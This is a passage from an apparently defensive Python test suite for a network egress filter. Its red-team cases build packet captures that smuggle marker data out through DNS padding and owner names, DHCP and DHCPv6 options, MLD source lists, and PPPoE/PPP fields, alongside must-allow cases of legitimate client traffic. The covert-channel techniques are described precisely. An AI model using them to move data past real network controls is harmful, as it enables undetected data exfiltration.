    """dig +cookie +padding=pad_to: a cookie, then a Padding option (RFC 7830, code 12)
    that makes the query a multiple of pad_to bytes; fill: the padding's bytes."""
    q0 = rt17_q(qid, name, 1, [rt17_opt([(10, prand(seed, 8)), (12, b"")])])
    pad = (pad_to - len(q0) % pad_to) % pad_to
    body = (fill * pad)[:pad]
    return rt17_q(qid, name, 1, [rt17_opt([(10, prand(seed, 8)), (12, body)])])


@case
def case_dns_tcp_padding_ok(n):
    """(The twenty-fourth session) Must-allow: rt17_dns_padding_ok over TCP (`dig +tcp
    +cookie +padding=128`, BIND's padding to a server): the query padded to 256 bytes,
    its OPT record's data 137 bytes (past DNS_STDQ_RDATA by 9 zeros), the OPT's fixed
    part and its data's last 16 bytes a byte a segment (the stream reader's padding
    state across every boundary, dns_wire_feed), then a second padded query whole."""
    cap = Capture()
    t = ETcp(cap, S1, 55500, RESOLVER, 53, isn=55500, rtt_us=2000)
    t.handshake()
    name = "a" * 40 + "." + "b" * 29 + "." + "img." + E2M_NAME
    q = padded_q(0x5501, name, 128, n + "c")
    assert len(q) == 256
    wire = struct.pack("!H", len(q)) + q
    rr = 2 + 12 + len(rt17_name(name)) + 4
    t.data(True, wire[:rr])
    segments(t, wire[rr:rr + 11], 1)
    t.data(True, wire[rr + 11:len(wire) - 16])
    segments(t, wire[len(wire) - 16:], 1)
    a = rt17_a(0x5501, name)
    t.data(False, struct.pack("!H", len(a)) + a)
    q2 = padded_q(0x5502, name, 128, n + "d")
    t.data(True, struct.pack("!H", len(q2)) + q2)
    a2 = rt17_a(0x5502, name)
    t.data(False, struct.pack("!H", len(a2)) + a2)
    # 11 s later: a FIN sooner is held while an answer of a learned name can still be
    # contradicted (dns_rst_held, as rt17_dns_tcp_pipelined_ok)
    t.close(gap=11000000)
    return cap, {"pass": [q2, a]}


@case
def case_dns_padding_carrier(n):
    """(The twenty-fourth session) Queries to the resolver over UDP padded as dig pads
    them, but the Padding option holds text (the marker) instead of zeros: a Padding
    option's content is ignored by its receiver (RFC 7830 3), so whoever taps the path
    reads it. Past the OPT's first 128 bytes only zeros may stand (dns_stdq_rdata_ok):
    the first query carries the marker there; the second one, 200 bytes of it in a
    query padded to 384. Must not pass."""
    cap = Capture()
    name = "a" * 40 + "." + "b" * 29 + "." + "img." + E2M_NAME
    for i, blk in enumerate((128, 384)):
        fill = leak(n) + prand("%s%d" % (n, i), 300).hex().encode()
        q0 = padded_q(0x5511 + i, name, blk, n + "c%d" % i)
        pad = len(q0) - (12 + len(rt17_name(name)) + 4 + 11 + 16)
        assert pad > 0
        # the marker placed in the padding's last bytes: past the OPT's first 128
        q = padded_q(0x5511 + i, name, blk, n + "c%d" % i, fill=b"\x00" * (pad - len(leak(n))) + leak(n))
        if i == 1:
            q = padded_q(0x5511 + i, name, blk, n + "c%d" % i, fill=fill * 2)
        udp(cap, S1, 55501, RESOLVER, 53, q)
        udp(cap, RESOLVER, 53, S1, 55501, rt17_a(0x5511 + i, name), gap=2000)
    return cap, {"leak": [leak(n)]}


@case
def case_dns_tcp_padding_carrier(n):
    """(The twenty-fourth session) dns_padding_carrier over TCP: a padded query whose
    Padding option holds the marker past the OPT's first 128 bytes, the record's data
    a byte a segment from its 120th byte to its 136th, the rest whole (each segment
    checked as it streams past, dns_wire_feed). Must not pass."""
    cap = Capture()
    t = ETcp(cap, S1, 55502, RESOLVER, 53, isn=55502, rtt_us=2000)
    t.handshake()
    name = "x" * 50 + "." + E2M_NAME
    q0 = padded_q(0x5521, name, 384, n + "c")
    pad = len(q0) - (12 + len(rt17_name(name)) + 4 + 11 + 16)
    q = padded_q(0x5521, name, 384, n + "c", fill=b"\x00" * (pad - 100) + leak(n) * 8)
    wire = struct.pack("!H", len(q)) + q
    rd = 2 + 12 + len(rt17_name(name)) + 4 + 11
    t.data(True, wire[:rd + 120])
    segments(t, wire[rd + 120:rd + 136], 1)
    t.data(True, wire[rd + 136:])
    a = rt17_a(0x5521, name)
    t.data(False, struct.pack("!H", len(a)) + a)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_dns_tcp_rewrite_pad(n):
    """(The twenty-fourth session) DNS over TCP: a padded query (dig +tcp +padding=384,
    its OPT's data past 128 bytes all zero) passes us and is lost on the way on; the
    same sequence number then carries the same query with the marker in the padding's
    zeros (a retransmission to us: the zeros are bytes the reading depends on, logged
    and compared). Must not pass."""
    cap = Capture()
    t = ETcp(cap, S1, 55503, RESOLVER, 53, isn=55503, rtt_us=4000)
    t.handshake()
    q, a = dns_pair(E2M_NAME, "A", 0x5531, E2M)
    t.data(True, q)
    t.data(False, a)
    name = "y" * 50 + "." + E2M_NAME
    q2 = padded_q(0x5532, name, 384, n + "c")
    pad = len(q2) - (12 + len(rt17_name(name)) + 4 + 11 + 16)
    swap = padded_q(0x5532, name, 384, n + "c", fill=b"\x00" * (pad - 100) + leak(n) * 4 + b"\x00" * (100 - 4 * len(leak(n))))
    assert len(swap) == len(q2) and swap != q2
    w1 = struct.pack("!H", len(q2)) + q2
    w2 = struct.pack("!H", len(swap)) + swap
    base = t.cseq
    t.raw(True, "PA", w1, seq=base)
    t.raw(True, "PA", w2, seq=base, gap=300000)
    t.cseq = base + len(w1)
    t.raw(False, "A")
    t.close(gap=11000000)
    return cap, {"leak": [leak(n)]}


@case
def case_dns_tcp_answer_resend_ok(n):
    """(The twenty-fourth session) Must-allow: DNS over TCP, the resolver's answer of 40
    address records (682 bytes, names compressed as every resolver writes them) lost
    after us and sent again byte for byte, then a second query and its answer (the
    resolver's bytes are not logged: the learning compares what answers teach)."""
    cap = Capture()
    t = ETcp(cap, S1, 55504, RESOLVER, 53, isn=55504, rtt_us=4000)
    t.handshake()
    name = "pool.e2m.customs.example"
    q = rt17_q(0x5541, name, 1, [rt17_opt([(10, prand(n + "c", 8))])])
    t.data(True, struct.pack("!H", len(q)) + q)
    # as resolvers write it: each owner a pointer to the question's name
    a = (struct.pack("!HHHHHH", 0x5541, 0x8180, 1, 40, 0, 0) + rt17_name(name) + struct.pack("!HH", 1, 1)
         + b"".join(struct.pack("!HHHIH", 0xc00c, 1, 1, 300, 4) + bytes([198, 51, 100, 100 + i])
                    for i in range(40)))
    wa = struct.pack("!H", len(a)) + a
    base = t.sseq
    t.raw(False, "PA", wa, seq=base)
    t.raw(False, "PA", wa, seq=base, gap=300000)
    t.sseq = base + len(wa)
    t.raw(True, "A")
    q2 = rt17_q(0x5542, E2M_NAME, 28, [rt17_opt([(10, prand(n + "d", 8))])])
    t.data(True, struct.pack("!H", len(q2)) + q2)
    a2 = rt17_a(0x5542, E2M_NAME, 28)
    t.data(False, struct.pack("!H", len(a2)) + a2)
    t.close(gap=11000000)
    return cap, {"pass": [q2, a2]}


@case
def case_rt17_dns_opt_owner_carrier(n):
    """(Red team round 17) Queries to the resolver whose OPT record's owner name is four
    60-byte labels of printable text (the marker): RFC 6891 6.1.2 says the OPT's NAME MUST
    be 0 (the root); no stub or forwarder writes another (BIND and Knot answer FORMERR).
    The standard-query rule (dns_stdq_type_ok) bounds records' types and data, not their
    owner names: 245 bytes a record beside the question's name, to whoever taps the
    path. Must not pass."""
    cap = Capture()
    for i in range(3):
        blob = leak(n) + prand("%s%d" % (n, i), 300).hex().encode()
        owner = b"".join(bytes([60]) + blob[k * 60:(k + 1) * 60] for k in range(4)) + b"\x00"
        q = rt17_q(0x5341 + i, E2M_NAME, 1, [rt17_opt([(10, prand(n + "c%d" % i, 8))], owner=owner)])
        udp(cap, S1, 55305, RESOLVER, 53, q)
        udp(cap, RESOLVER, 53, S1, 55305, rt17_a(0x5341 + i, E2M_NAME), gap=2000)
    return cap, {"leak": [leak(n)]}


@case
def case_rt17_dns_tcp_tsig_owner_carrier(n):
    """(Red team round 17) Over TCP to the resolver: queries signed with a TSIG whose key
    name (the record's owner) is four 60-byte labels of text (the marker), and an OPT
    record with a root owner. A key name is the shared key's configured name (a few
    labels: `key.customs.example`); a resolver without that key answers NOTAUTH/BADKEY
    and forwards nothing. The rule bounds the TSIG's data, not its owner name. Must not
    pass."""
    cap = Capture()
    t = ETcp(cap, S1, 55306, RESOLVER, 53, isn=55306, rtt_us=2000)
    t.handshake()
    for i in range(3):
        blob = leak(n) + prand("%s%d" % (n, i), 300).hex().encode()
        owner = b"".join(bytes([60]) + blob[k * 60:(k + 1) * 60] for k in range(4)) + b"\x00"
        q = rt17_q(0x5351 + i, E2M_NAME, 1, [rt17_opt([]),
                                             rt17_tsig("", 0x5351 + i, 32, n + "m%d" % i, owner=owner)])
        t.data(True, struct.pack("!H", len(q)) + q)
        a = rt17_a(0x5351 + i, E2M_NAME)
        t.data(False, struct.pack("!H", len(a)) + a)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt17_dns_two_opt_carrier(n):
    """(Red team round 17) Queries with two OPT records, each with 124 bytes of a private
    option (65500: the marker): RFC 6891 6.1.1 allows one OPT per message and a resolver
    answers FORMERR to more; no stub sends two. The rule counts two records of the
    allowed types and lets both through. Must not pass."""
    cap = Capture()
    for i in range(3):
        blob = leak(n) + prand("%s%d" % (n, i), 240)
        q = rt17_q(0x5361 + i, E2M_NAME, 1, [rt17_opt([(65500, blob[:124])]), rt17_opt([(65501, blob[124:248])])])
        udp(cap, S1, 55307, RESOLVER, 53, q)
        udp(cap, RESOLVER, 53, S1, 55307, bytes(DNS(id=0x5361 + i, qr=1, rcode=1, qd=DNSQR(qname=E2M_NAME))), gap=2000)
    return cap, {"leak": [leak(n)]}


@case
def case_rt17_mld_macos_hbh_ok(n):
    """(Red team round 17) Must-allow: macOS, iOS and FreeBSD MLDv2 reports: their
    Hop-by-Hop header lays out PadN first, then the Router Alert (xnu and FreeBSD
    mld6.c, struct mld_raopt: hbh, pad = IP6OPT_PADN, ra), bytes 3a 00 01 00 05 02 00 00;
    Linux puts the Router Alert first. Both are RFC 2711's header. Then an e2m session."""
    from scapy.layers.inet6 import ICMPv6MLDMultAddrRec, ICMPv6MLReport2

    def frames(mac):
        ll = "fe80::1c2a:4bff:fe33:9d01"
        hbh = bytes([58, 0, 1, 0, 5, 2, 0, 0])
        recs = [ICMPv6MLDMultAddrRec(rtype=4, dst="ff02::fb"), ICMPv6MLDMultAddrRec(rtype=4, dst="ff02::1:ff33:9d01")]
        mld = bytes(ICMPv6MLReport2(records=recs))
        from scapy.layers.inet6 import in6_chksum
        ip6 = IPv6(src=ll, dst="ff02::16", hlim=1, nh=0)
        c = in6_chksum(58, IPv6(src=ll, dst="ff02::16", nh=58) / Raw(mld), mld)
        mld = mld[:2] + struct.pack("!H", c) + mld[4:]
        for d in ("ff02::16",):
            yield Ether(src=mac, dst="33:33:00:00:00:16") / ip6 / Raw(hbh + mld), mld
    return link_ok_flow(n, 55310, True, frames)


@case
def case_rt17_mld_many_records_ok(n):
    """(Red team round 17) Must-allow: a Linux host's MLDv2 report of 24 records (a
    desktop in mDNS, LLMNR, SSDP, several solicited-node groups and source-specific
    IPTV groups with sources), as it sends them after a link change, then an MLDv1
    report. RFC 3810 5.2 bounds records by the MTU only."""
    from scapy.layers.inet6 import ICMPv6MLDMultAddrRec, ICMPv6MLReport2, RouterAlert

    def frames(mac):
        ll = "fe80::95:b3ff:fe18:e938"
        recs = [ICMPv6MLDMultAddrRec(rtype=2, dst="ff02::1:ff00:%x" % (0x10 + k)) for k in range(16)]
        recs += [ICMPv6MLDMultAddrRec(rtype=2, dst=g) for g in ("ff02::fb", "ff02::1:3", "ff02::c", "ff05::c")]
        recs += [ICMPv6MLDMultAddrRec(rtype=1, dst="ff3e::8000:%x" % k, sources=["2001:db8:e2e::%x" % (k + 5)])
                 for k in range(4)]
        p = (IPv6(src=ll, dst="ff02::16", hlim=1) / IPv6ExtHdrHopByHop(options=[RouterAlert()])
             / ICMPv6MLReport2(records=recs))
        yield Ether(src=mac, dst="33:33:00:00:00:16") / p, bytes(p)[48:]
    return link_ok_flow(n, 55311, True, frames)


def rt17_dhcp_carrier(n, cport, code):
    def send(t, rec, i):
        s = mac_pair(t.c, t.s)[0]
        blob = leak(n) + prand("%s-d%d" % (n, i), 300)
        opts = [(53, b"\x01"), (code, (b"\x01" if code == 61 else b"") + blob[:254 if code == 61 else 255])]
        t.cap.emit(dhcp4_frame(s, dhcp4_msg(s, 0x55000000 + i, opts)), 1000)
        t.raw(True, "PA", rec)
    return carrier_flow(n, cport, cport, False, send), {"leak": [leak(n)], "replay_args": ["--inside-mac", mac_pair(S1, E2M)[0]]}


@case
def case_rt17_dhcp_hostname_carrier(n):
    """(Red team round 17) During an allowed e2m session the strict host broadcasts
    DHCPDISCOVERs whose Host Name option (12) holds 255 bytes of binary data (the
    marker). parse_link_dhcp4 takes 12, 61 and 81 at any length outside the 128-byte
    free-form budget; a host name is a DNS label or name (RFC 2132 3.14, RFC 1035: 63
    bytes a label, letters, digits, hyphen), Windows' 15, dhclient's the host's. A relay
    forwards the whole message off the link. Must not pass."""
    return rt17_dhcp_carrier(n, 55312, 12)


@case
def case_rt17_dhcp_clientid_carrier(n):
    """(Red team round 17) The same with a Client Identifier (61) of 255 bytes: type 1 and
    254 bytes of marker. Clients send a type and a MAC (7 bytes) or an IAID and DUID
    (RFC 4361: at most 5 + 130 bytes). Must not pass."""
    return rt17_dhcp_carrier(n, 55313, 61)


@case
def case_rt17_dhcp6_fqdn_carrier(n):
    """(Red team round 17) During an allowed IPv6 e2m session, DHCPv6 Solicits whose Client
    FQDN option (39) holds a flags byte and 255 bytes of binary data (the marker), not a
    name in DNS wire form (RFC 4704 4.2), and a client DUID of 130 bytes of anything
    (DUID-EN's identifier): 385 bytes a frame outside the free-form budget; a relay wraps
    the whole message for its servers off the link. Must not pass."""
    def send(t, rec, i):
        s = mac_pair(t.c, t.s)[0]
        blob = leak(n) + prand("%s-d%d" % (n, i), 400)
        msg = (bytes([1]) + struct.pack("!I", 0x5500 + i)[1:] + dhcp6_opt(1, struct.pack("!HI", 2, 9) + blob[255:379])
               + dhcp6_opt(8, b"\x00\x00") + dhcp6_opt(39, b"\x00" + blob[:255]))
        t.cap.emit(Ether(src=s, dst="33:33:00:01:00:02") / IPv6(src="fe80::95:b3ff:fe18:e938", dst="ff02::1:2", hlim=1)
                   / UDP(sport=546, dport=547) / Raw(msg), 1000)
        t.raw(True, "PA", rec)
    return carrier_flow(n, 55314, 55314, True, send), {"leak": [leak(n)], "replay_args": ["--inside-mac", mac_pair(S6, E2M6)[0]]}


@case
def case_rt17_dhcp_clients_ok(n):
    """(Red team round 17) Must-allow: more real DHCP clients from 0.0.0.0: Android's
    DISCOVER (client id, max size 1500, vendor class android-dhcp-14, host name, 12
    parameters with 108 IPv6-only preferred and 114 captive portal), macOS's (55 with
    121, 119, 252, 57 1500, 61, 51 lease time, 12), iPXE's (53, 57, 93, 94, 97, 60
    PXEClient:Arch:00007:UNDI:003016, 77 iPXE, 175 its features, 55), a DHCPRELEASE and a
    DHCPDECLINE. All pass whole."""
    def frames(mac):
        hw = bytes.fromhex(mac.replace(":", ""))
        msgs = [
            dhcp4_msg(mac, 0x6a1b2c3d, [(53, b"\x01"), (61, b"\x01" + hw), (57, b"\x05\xdc"),
                                        (60, b"android-dhcp-14"), (12, b"Pixel-8"),
                                        (55, bytes([1, 3, 6, 15, 26, 28, 51, 58, 59, 43, 108, 114]))]),
            dhcp4_msg(mac, 0x7a1b2c3d, [(53, b"\x01"), (55, bytes([1, 121, 3, 6, 15, 108, 114, 119, 252, 95, 44, 46])),
                                        (57, b"\x05\xdc"), (61, b"\x01" + hw), (51, b"\x00\x76\xa7\x00"),
                                        (12, b"MacBook-Pro")], pad_to=300),
            dhcp4_msg(mac, 0x8a1b2c3d, [(53, b"\x01"), (57, b"\x05\xc0"), (93, b"\x00\x07"), (94, b"\x01\x03\x10"),
                                        (97, b"\x00" + prand(n + "guid", 16)),
                                        (60, b"PXEClient:Arch:00007:UNDI:003016"), (77, b"iPXE"),
                                        (175, bytes.fromhex("b1050102808600eb030100001701011301011501")),
                                        (55, bytes([1, 3, 6, 7, 12, 15, 17, 26, 43, 60, 66, 67, 119, 128, 129, 130,
                                                    131, 132, 133, 134, 135, 175, 203]))]),
            dhcp4_msg(mac, 0x9a1b2c3d, [(53, b"\x07"), (54, bytes([10, 10, 1, 1])), (61, b"\x01" + hw)]),
            dhcp4_msg(mac, 0xaa1b2c3d, [(53, b"\x04"), (50, bytes([10, 10, 1, 10])), (54, bytes([10, 10, 1, 1])),
                                        (61, b"\x01" + hw)]),
        ]
        for m in msgs:
            yield dhcp4_frame(mac, m), m
    return link_ok_flow(n, 55315, False, frames)


@case
def case_rt17_dhcp6_clients_ok(n):
    """(Red team round 17) Must-allow: macOS's DHCPv6 Information-request (stateless: ORO
    23, 24, elapsed time, DUID-LLT), a CPE router's Solicit on its inside port (rapid
    commit, reconfigure accept, user class, vendor class, IA_NA and an IA_PD with a /56
    hint), and a Renew and Release. All pass whole."""
    def frames(mac):
        hw = bytes.fromhex(mac.replace(":", ""))
        llt = struct.pack("!HHI", 1, 1, 0x2c8f1a3b) + hw
        srv = struct.pack("!HH", 3, 1) + bytes.fromhex("020000000001")
        ia = dhcp6_opt(5, bytes.fromhex("20010db800e200000000000000000010") + struct.pack("!II", 0, 0))
        msgs = [
            bytes([11]) + b"\x2d\x11\x09" + dhcp6_opt(6, struct.pack("!HH", 23, 24)) + dhcp6_opt(8, b"\x00\x00")
            + dhcp6_opt(1, llt),
            bytes([1]) + b"\x3e\x02\x91" + dhcp6_opt(1, llt) + dhcp6_opt(8, b"\x00\x00") + dhcp6_opt(14, b"")
            + dhcp6_opt(20, b"") + dhcp6_opt(15, struct.pack("!H", 8) + b"openwrt1")
            + dhcp6_opt(16, struct.pack("!IH", 2636, 12) + b"OpenWrt-23.0")
            + dhcp6_opt(3, struct.pack("!III", 1, 3600, 5400))
            + dhcp6_opt(25, struct.pack("!III", 2, 3600, 5400)
                        + dhcp6_opt(26, struct.pack("!IIB", 0, 0, 56) + b"\x00" * 16))
            + dhcp6_opt(6, struct.pack("!5H", 23, 24, 82, 31, 56)),
            bytes([5]) + b"\x4e\x02\x91" + dhcp6_opt(1, llt) + dhcp6_opt(2, srv) + dhcp6_opt(8, b"\x00\x00")
            + dhcp6_opt(3, struct.pack("!III", 1, 3600, 5400) + ia) + dhcp6_opt(6, struct.pack("!HH", 23, 24)),
            bytes([8]) + b"\x5e\x02\x91" + dhcp6_opt(1, llt) + dhcp6_opt(2, srv) + dhcp6_opt(8, b"\x00\x00")
            + dhcp6_opt(3, struct.pack("!III", 1, 0, 0) + ia),
        ]
        yield from dhcp6_frames(mac, msgs)
    return link_ok_flow(n, 55316, True, frames)


@case
def case_rt17_nd_ra_full_ok(n):
    """(Red team round 17) Must-allow: an inside router's RA as radvd or a CPE sends it:
    its link-layer address, MTU, two prefixes, a route information option (a /48,
    length 2), RDNSS with two servers (length 5), DNSSL, the RA flags extension (RFC
    5175), PREF64 (RFC 8781) and a captive portal URI (RFC 8910). Then an e2m session."""
    def frames(mac):
        ll = "fe80::95:b3ff:fe18:e938"
        hw = bytes.fromhex(mac.replace(":", ""))
        opts = (bytes([1, 1]) + hw + bytes([5, 1, 0, 0]) + struct.pack("!I", 1500)
                + bytes([3, 4, 64, 0xc0]) + struct.pack("!III", 86400, 14400, 0) + bytes.fromhex("20010db800e200010000000000000000")
                + bytes([3, 4, 64, 0xc0]) + struct.pack("!III", 86400, 14400, 0) + bytes.fromhex("20010db800e200020000000000000000")
                + bytes([24, 2, 48, 0x08]) + struct.pack("!I", 1800) + bytes.fromhex("20010db800e30000")
                + bytes([25, 5, 0, 0]) + struct.pack("!I", 600) + bytes.fromhex("20010db800e20001000000000000005320010db800e200010000000000000054")
                + bytes([31, 4, 0, 0]) + struct.pack("!I", 600) + b"\x07customs\x07example\x00" + b"\x00" * 7
                + bytes([26, 1, 0, 0, 0, 0, 0, 0])
                + bytes([38, 2]) + struct.pack("!H", 600 << 3) + bytes.fromhex("0064ff9b000000000000")[:12].ljust(12, b"\x00")
                + bytes([37, 5]) + b"https://portal.customs.example/api".ljust(38, b"\x00"))
        ra = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + opts
        from scapy.layers.inet6 import in6_chksum
        c = in6_chksum(58, IPv6(src=ll, dst="ff02::1", nh=58) / Raw(ra), ra)
        ra = ra[:2] + struct.pack("!H", c) + ra[4:]
        yield Ether(src=mac, dst="33:33:00:00:00:01") / IPv6(src=ll, dst="ff02::1", hlim=255, nh=58) / Raw(ra), ra
    return link_ok_flow(n, 55317, True, frames)


@case
def case_rt10f_dhcp_frag_opts(n):
    """rt10f_dhcp_opts with each DISCOVER (1500 bytes of vendor and private options, the
    marker) sent as IPv4 fragments of 600 bytes, as a host whose stack fragments a UDP
    datagram over its MTU would: the fragments are reassembled and the whole message is
    held to what a DHCP client sends (parse_link_bounded), as the unfragmented one is.
    Must not pass."""
    def send(t, rec, i):
        s = mac_pair(t.c, t.s)[0]
        blob = leak(n) + prand("%s-d%d" % (n, i), 1500)
        opts = b"\x35\x01\x01" + b"".join(bytes([code, 250]) + blob[k * 250:(k + 1) * 250]
                                       for k, code in enumerate((60, 43, 224, 225, 226, 227)))
        bootp = (struct.pack("!BBBBIHH", 1, 1, 6, 0, 0x54100000 + i, 0, 0x8000) + b"\x00" * 16
                 + bytes.fromhex(s.replace(":", "")) + b"\x00" * 10 + b"\x00" * 192
                 + b"\x63\x82\x53\x63" + opts + b"\xff")
        dg = IP(src="0.0.0.0", dst="255.255.255.255", id=0x5100 + i) / UDP(sport=68, dport=67) / Raw(bootp)
        for fr in fragment(dg, fragsize=600):
            t.cap.emit(Ether(src=s, dst="ff:ff:ff:ff:ff:ff") / fr, 1000)
        t.raw(True, "PA", rec)
    return carrier_flow(n, 55210, 55210, False, send), {"leak": [leak(n)], "replay_args": ["--inside-mac", mac_pair(S1, E2M)[0]]}


# ------------------------------------------------ red team round 18 (this session): link services' carriers, IXFR, the steady state's fast path


def rt18_mld_frame(mac, ll, body):
    """An MLD message from ll to ff02::16 behind Linux's Hop-by-Hop header
    (Router Alert, PadN), its checksum filled in."""
    from scapy.layers.inet6 import in6_chksum
    hbh = bytes([58, 0, 5, 2, 0, 0, 1, 0])
    c = in6_chksum(58, IPv6(src=ll, dst="ff02::16", nh=58) / Raw(body), body)
    body = body[:2] + struct.pack("!H", c) + body[4:]
    return Ether(src=mac, dst="33:33:00:00:00:16") / IPv6(src=ll, dst="ff02::16", hlim=1, nh=0) / Raw(hbh + body)


@case
def case_rt18_mld_src(n):
    """(Red team round 18) During an allowed IPv6 e2m session the strict host sends, before
    each record, an MLDv2 report (143, Linux's Hop-by-Hop layout) with one record
    (MODE_IS_INCLUDE, group ff3e::8000:1) listing 80 sources: 1280 bytes of "addresses"
    that are the marker. parse_link_mld reads a record's source count and walks past
    the sources whatever they hold: no bound on their number, no check that they are
    unicast addresses. Honest reports carry a few sources (Linux's mld_max_msf, 64 per
    socket filter; IPTV's SSM one); the report floods the outside link (and MLD
    snooping switches). The MLD row of docs/stream.md bounds the bytes after the
    message, not these. Must not pass."""
    def send(t, rec, i):
        s = mac_pair(t.c, t.s)[0]
        blob = (leak(n) + prand("%s-m%d" % (n, i), 1300))[:80 * 16]
        mld = (struct.pack("!BBHHH", 143, 0, 0, 0, 1) + struct.pack("!BBH", 1, 0, 80)
               + bytes.fromhex("ff3e0000000000000000000080000001") + blob)
        t.cap.emit(rt18_mld_frame(s, "fe80::95:b3ff:fe18:e938", mld), 1000)
        t.raw(True, "PA", rec)
    return carrier_flow(n, 55400, 55400, True, send), {
        "leak": [leak(n)], "replay_args": ["--inside-mac", mac_pair(S6, E2M6)[0]]}


@case
def case_rt18_dhcp6_ia(n):
    """(Red team round 18) During an allowed IPv6 e2m session the strict host sends DHCPv6
    Solicits to ff02::1:2 with seven IA_NA options, each with four IA Address options
    asked for: 108 bytes of IAID, T1, T2, addresses and lifetimes an IA that nothing
    checks (the marker in the first address's 24 bytes): 756 bytes a message, which a
    relay forwards to its servers off the link. parse_link_dhcp6 bounds the addresses
    in one IA (4) but not the number of IAs ("each once, but the IAs"); real clients
    send one IA_NA (and one IA_PD), with no address or the one they hold. Must not
    pass."""
    def send(t, rec, i):
        s = mac_pair(t.c, t.s)[0]
        hw = bytes.fromhex(s.replace(":", ""))
        blob = prand("%s-d%d" % (n, i), 7 * 108)
        mark = leak(n).ljust(24, b"-")
        ias = b""
        for k in range(7):
            b = blob[k * 108:(k + 1) * 108]
            addrs = b"".join(dhcp6_opt(5, (mark if k == 0 and j == 0 else b[12 + j * 24:12 + (j + 1) * 24]))
                             for j in range(4))
            ias += dhcp6_opt(3, b[:12] + addrs)
        msg = (bytes([1]) + struct.pack("!I", 0x5500 + i)[1:] + dhcp6_opt(1, struct.pack("!HHI", 1, 1, 0x2c8f1a3b) + hw)
               + dhcp6_opt(8, b"\x00\x00") + ias)
        assert len(msg) <= 1024
        t.cap.emit(Ether(src=s, dst="33:33:00:01:00:02") / IPv6(src="fe80::95:b3ff:fe18:e938", dst="ff02::1:2", hlim=1)
                   / UDP(sport=546, dport=547) / Raw(msg), 1000)
        t.raw(True, "PA", rec)
    return carrier_flow(n, 55401, 55401, True, send), {
        "leak": [leak(n)], "replay_args": ["--inside-mac", mac_pair(S6, E2M6)[0]]}


@case
def case_rt18_pppoe_pado(n):
    """(Red team round 18) During an allowed e2m session the strict host sends, before each
    record, a PPPoE PADO (0x8863, code 0x07: an access concentrator's offer) from its own
    MAC to the gateway's, with 22 Service-Name tags of 64 bytes each (the marker): 1400
    bytes a frame. parse_link_pppoe takes an AC's messages (PADO, PADS) from the inside
    port and lets a PADO repeat Service-Name without bound; the concentrator is outside
    (the inside hosts are PPPoE clients), and a client sends one Service-Name. Must not
    pass."""
    def send(t, rec, i):
        s, d = mac_pair(t.c, t.s)
        blob = leak(n) + prand("%s-p%d" % (n, i), 22 * 64)
        tags = b"".join(struct.pack("!HH", 0x0101, 64) + blob[k * 64:(k + 1) * 64] for k in range(22))
        tags += struct.pack("!HH", 0x0102, 6) + b"BRAS-1"
        pppoe = struct.pack("!BBHH", 0x11, 0x07, 0, len(tags)) + tags
        eth = bytes(Ether(src=s, dst=d, type=0x8863))
        t.cap.emit(Ether(eth + pppoe), 1000)
        t.raw(True, "PA", rec)
    return carrier_flow(n, 55402, 55402, False, send), {
        "leak": [leak(n)], "replay_args": ["--inside-mac", mac_pair(S1, E2M)[0]]}


def rt18_ppp_frame(t, proto, pkt, plen=None):
    """A PPPoE session frame (session 0x1234) from the strict host to the gateway with
    one PPP packet; plen: the PPPoE length (default: the protocol and the packet)."""
    ppp = struct.pack("!BBHH", 0x11, 0, 0x1234, 2 + len(pkt) if plen is None else plen) + struct.pack("!H", proto) + pkt
    eth = bytes(l2(t.c, t.s, t.vlans))[:12] + b"\x88\x64"
    t.cap.emit(Ether(eth + ppp), 1000)
    return ppp


@case
def case_rt18_ppp_eap(n):
    """(Red team round 18) During an allowed e2m session the strict host sends PPPoE session
    frames holding an EAP packet (protocol 0xc227) of 1400 bytes: code 1 (a Request: the
    authenticator's, never a client's), type 4 (MD5-Challenge, whose value is 16 bytes),
    the rest the marker. parse_link_ppp returns true for EAP before it reads anything of
    it: no code, type or length is held, so rt8b_pppoe_lcp_carrier's 1000 bytes ride
    again under another protocol number. A client sends Responses (Identity, Nak, and a
    method's: EAP-TLS's are TLS records). Must not pass."""
    def send(t, rec, i):
        t.raw(True, "PA", rec)
        data = leak(n) + prand("%s-e%d" % (n, i), 1400)
        eap = bytes([1, i + 1]) + struct.pack("!H", 5 + 1 + len(data)) + bytes([4, 16]) + data
        rt18_ppp_frame(t, 0xc227, eap)
    return carrier_flow(n, 55403, 55403, False, send), {
        "leak": [leak(n)], "replay_args": ["--inside-mac", mac_pair(S1, E2M)[0]]}


@case
def case_rt18_ppp_pad(n):
    """(Red team round 18) rt8b_pppoe_lcp_carrier's echo as pppd sends it (an LCP
    Echo-Request of 8 bytes: the magic number alone), in a PPPoE session frame whose
    PPPoE length says 1410: the 1400 bytes after the LCP packet (the marker) are PPP
    padding (RFC 1661 5: octets past the Length field are padding, ignored). parse_link_ppp
    holds the LCP packet's own length to 16 bytes of data and checks only that it fits
    in the PPPoE length; the frame is cut at the PPPoE length, so the padding goes out
    to the outside link and the concentrator. pppd and every client send the PPPoE
    length of the packet. Must not pass."""
    def send(t, rec, i):
        t.raw(True, "PA", rec)
        pad = leak(n) + prand("%s-l%d" % (n, i), 1400)
        lcp = bytes([9, i + 1]) + struct.pack("!H", 8) + b"\x12\x34\x56\x78"
        rt18_ppp_frame(t, 0xc021, lcp + pad)
    return carrier_flow(n, 55404, 55404, False, send), {
        "leak": [leak(n)], "replay_args": ["--inside-mac", mac_pair(S1, E2M)[0]]}


@case
def case_rt18_ppp_win_lcp_ok(n):
    """(Red team round 18) Must-allow: Windows' built-in PPPoE client (RAS, "WAN Miniport
    (PPPOE)") during an allowed e2m session: its LCP Configure-Request (MRU 1480, magic,
    Callback option 13 with operation 6, CBCP), then the two LCP Identification packets
    (code 12, RFC 1570: the magic number and "MSRASV5.20", then "MSRAS-0-DESKTOP-4F2K9QJ")
    that every Windows RAS session sends after LCP opens, and an Echo-Reply. RFC 1570
    codes 12 (Identification) and 13 (Time-Remaining) are LCP's; a peer that does not know
    them answers Code-Reject. Each frame must reach the outside link whole."""
    marks = []

    def send(t, rec, i):
        t.raw(True, "PA", rec)
        if i == 0:
            opts = b"\x01\x04\x05\xc8" + b"\x05\x06\x2d\x4e\x11\x93" + b"\x0d\x03\x06"
            marks.append(rt18_ppp_frame(t, 0xc021, bytes([1, 1]) + struct.pack("!H", 4 + len(opts)) + opts))
        elif i == 1:
